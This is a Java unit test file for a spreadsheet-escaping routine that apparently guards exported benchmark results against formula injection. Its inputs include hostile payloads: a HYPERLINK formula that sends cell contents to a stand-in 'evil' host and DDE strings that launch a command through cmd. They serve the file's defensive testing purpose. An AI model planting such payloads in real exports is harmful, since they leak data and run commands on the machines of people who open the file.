package io.convbench.results;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetTextTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://evil/\"&A1;\"ok\")",
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "-",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\u00a0=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1+1",
        "\uff20SUM(1)",
        "'=1",
        "''=1",
        "-x.jpg",
        "+49 30 1",
        "-1.5e",
        "-NaN",
        "-0x10"
      })
  void marksWhatASpreadsheetWouldCompute(String text) {
    assertEquals("'" + text, SpreadsheetText.written(text));
    assertEquals(text, SpreadsheetText.read(SpreadsheetText.written(text)));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "-1",
        "+1",
        "-0.0",
        "-1.5E-10",
        "-3.0E20",
        "1e-7",
        "-Infinity",
        "NaN",
        "a=b",
        "'",
        "'quoted'",
        "don't",
        "n01440764",
        "2026-11-23T21:57:39Z",
        "(1, 7, 7)"
      })
  void leavesNumbersAndOtherTextsAlone(String text) {
    assertEquals(text, SpreadsheetText.written(text));
    assertEquals(text, SpreadsheetText.read(text));
  }

  /** All texts of up to four of the characters that count. */
  @Test
  void givesBackEveryText() {
    List<String> texts = new ArrayList<>(List.of(""));
    for (int from = 0, length = 0; length < 4; length++) {
      int to = texts.size();
      for (; from < to; from++) {
        for (char next : "'=-1 ea".toCharArray()) {
          texts.add(texts.get(from) + next);
        }
      }
    }
    assertEquals(1 + 7 + 49 + 343 + 2401, texts.size());
    for (String text : texts) {
      assertEquals(text, SpreadsheetText.read(SpreadsheetText.written(text)));
    }
  }
}
